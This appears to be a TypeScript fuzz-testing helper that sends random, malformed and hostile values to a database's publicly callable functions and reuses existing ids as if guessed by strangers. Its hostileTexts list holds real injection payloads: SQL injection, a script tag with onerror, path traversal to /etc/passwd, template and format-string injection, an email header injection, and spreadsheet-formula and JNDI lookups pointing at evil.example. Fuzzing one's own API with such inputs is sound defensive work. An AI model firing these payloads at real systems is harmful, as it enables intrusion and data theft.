import type { TestDatabase } from './database.ts';
import { oneOf, type RandomPick } from './histories/random.ts';

/** Texts that are known to cause bugs in code that processes forms. */
export const hostileTexts = [
  '',
  ' ',
  '\u0000',
  'Kai\u0000Tan',
  '\ud83d',
  '\u202Eniam',
  'a\r\nBcc: all@example.test',
  "' or true --",
  '"}]);',
  '=HYPERLINK("https://evil.example")',
  '<img src=x onerror=alert(1)>',
  '../../etc/passwd',
  '{{7*7}}',
  '%s%n%00',
  'x'.repeat(5_000),
  '🦦'.repeat(300),
  'ᐃ̵̢͇'.repeat(40),
  'null',
  'NaN',
  'infinity',
  '-infinity',
  '5874897-12-31',
  '294276-12-31T23:59:59Z',
  '0001-01-01 BC',
  '2018-02-30',
  '1e400',
  '{}',
  '[]',
  '\\x',
  // Full-width digits, which patterns may accept as digits but number parsing does not.
  '２０１８-０５-０１',
  '１２３',
  '٣٤٥',
  '+６５９１２３４５６７',
  '${jndi:ldap://evil.example}',
];
const hostileNumbers = [0, -1, 1, 0.5, 2_147_483_648, -2_147_483_649, 9.3e18, 1e300, -0, 1e-300];
const plausibleTexts = [
  'Mei Tan',
  'mei@example.test',
  '+6591234567',
  '2018-05-01',
  '2026-11-21',
  '2026-11-21T10:00:00+08:00',
  'photo',
  'terms',
  'booked',
  'spark',
  'pass-tryout',
  'camp-spark',
  'goodwill',
  'flexi',
];

export interface PublicFunction {
  name: string;
  arguments: { name: string; type: string }[];
  keys: string[];
}

/** Returns all functions that a browser may call, signed in or not. */
export async function readPublicFunctions(db: TestDatabase): Promise<PublicFunction[]> {
  const sources = await db.sql<{ name: string; source: string }[]>`
    select p.proname as name, p.prosrc as source from pg_proc p
    where p.pronamespace in ('public'::regnamespace, 'private'::regnamespace)`;
  const source = new Map(sources.map((row) => [row.name, row.source]));
  const rows = await db.sql<{ name: string; names: string[] | null; types: string[] | null }[]>`
    select p.proname as name, p.proargnames[1:p.pronargs] as names,
      (select array_agg(format_type(t.id, null) order by t.place)
        from unnest(p.proargtypes::oid[]) with ordinality t (id, place)) as types
    from pg_proc p
    where p.pronamespace = 'public'::regnamespace and p.prorettype <> 'trigger'::regtype
      and (has_function_privilege('anon', p.oid, 'execute') or has_function_privilege('authenticated', p.oid, 'execute'))
    order by p.proname, p.oid`;
  return rows.map(({ name, names, types }) => ({
    name,
    arguments: (names ?? []).map((argument, index) => ({ name: argument, type: types?.[index] ?? 'text' })),
    keys: [...collectKeys(name, source)],
  }));
}

function collectKeys(name: string, sources: Map<string, string>, seen = new Set<string>()): Set<string> {
  const keys = new Set<string>();
  const text = sources.get(name);
  if (text === undefined || seen.has(name)) return keys;
  seen.add(name);
  for (const [, key] of text.matchAll(/(?:->>?|\?) '(\w+)'/g)) if (key) keys.add(key);
  for (const [, called] of text.matchAll(/private\.(\w+)\(/g))
    if (called) for (const key of collectKeys(called, sources, seen)) keys.add(key);
  return keys;
}

/** Existing ids and secrets, as if a stranger had guessed them or a parent had received them. */
export async function readKnownIds(db: TestDatabase): Promise<string[]> {
  const columns = await db.sql<{ source: string; name: string }[]>`
    select a.attrelid::regclass::text as source, a.attname as name
    from pg_attribute a join pg_class c on c.oid = a.attrelid
    where c.relnamespace = 'public'::regnamespace and c.relkind = 'r' and a.atttypid = 'uuid'::regtype and a.attnum > 0
      and not a.attisdropped`;
  const found = await Promise.all(
    columns.map(
      ({ source, name }) =>
        db.sql<
          { id: string }[]
        >`select ${db.sql(name)} as id from ${db.sql.unsafe(source)} where ${db.sql(name)} is not null limit 3`,
    ),
  );
  return [...new Set(found.flat().map(({ id }) => id))].sort();
}

/** Returns a value for an argument of this type: valid, nearly valid, or of another type. */
export function hostileValue(pick: RandomPick, type: string, keys: string[], ids: string[]): unknown {
  if (pick(8) === 0) return anyValue(pick, keys, ids, 2);
  if (type.endsWith('[]')) {
    return Array.from({ length: pick(12) }, () => hostileValue(pick, type.slice(0, -2), keys, ids));
  }
  if (type === 'uuid') return pick(4) ? oneOf(pick, ids) : oneOf(pick, hostileTexts);
  if (type === 'boolean') return oneOf(pick, [true, false, null]);
  if (/int|numeric|double/.test(type)) return oneOf(pick, hostileNumbers);
  if (type === 'jsonb' || type === 'json') return anyValue(pick, keys, ids, 4);
  return scalar(pick, ids);
}

function anyValue(pick: RandomPick, keys: string[], ids: string[], depth: number): unknown {
  const kind = pick(depth > 0 ? 10 : 4);
  if (kind < 4) return scalar(pick, ids);
  if (kind < 6) return Array.from({ length: pick(4) }, () => anyValue(pick, keys, ids, depth - 1));
  const names = keys.length ? keys : ['a'];
  return Object.fromEntries(
    Array.from({ length: 1 + pick(8) }, () => [oneOf(pick, names), anyValue(pick, keys, ids, depth - 1)]),
  );
}

function scalar(pick: RandomPick, ids: string[]): unknown {
  return [
    () => oneOf(pick, hostileTexts),
    () => oneOf(pick, hostileNumbers),
    () => oneOf(pick, [true, false, null]),
    () => oneOf(pick, ids),
    () => oneOf(pick, plausibleTexts),
  ][pick(5)]?.();
}

/** Returns JSON as a browser may send it, with lone surrogates and NUL characters as escapes. */
export const toBody = (value: unknown): string => JSON.stringify(value);
